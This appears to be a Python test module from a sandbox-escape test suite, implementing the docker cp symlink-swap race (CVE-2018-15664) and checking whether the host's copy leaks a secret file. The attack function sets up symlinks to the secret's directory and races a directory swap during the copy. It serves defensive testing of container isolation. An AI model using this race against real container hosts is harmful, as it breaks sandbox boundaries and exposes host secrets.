"""Swap a directory for a link to the secret's while the host copies what is in it."""

import os
import tempfile
from pathlib import Path

from tests import inside
from tests.escape.technique import against_the_host


def attack(world):
    os.makedirs("real")
    open("real/secret", "w").write("mine")
    os.symlink(os.path.dirname(world.secret), "link")
    os.symlink(world.secret, "real/other")
    world.swap(b"real", b"link", 0.4)


def outside_read(sandbox, targets):
    with tempfile.TemporaryDirectory() as folder:
        sandbox.files.list(recursive=True)
        for name in ("real", "link", "."):
            try:
                sandbox.files.get(name, folder)
            except OSError:
                pass
        found = [path.read_text() for path in Path(folder).rglob("*") if path.is_file()]
        return "\n".join([*found, sandbox.files.read_text("real/secret")])


def outside_careless(sandbox, targets):
    with inside.workspace(sandbox) as top:
        return "\n".join(open(f"{top}/{name}/secret").read() for name in ("real", "link"))


TECHNIQUE = against_the_host("docker cp, CVE-2018-15664; CWE-367", reader=outside_read, careless=outside_careless)
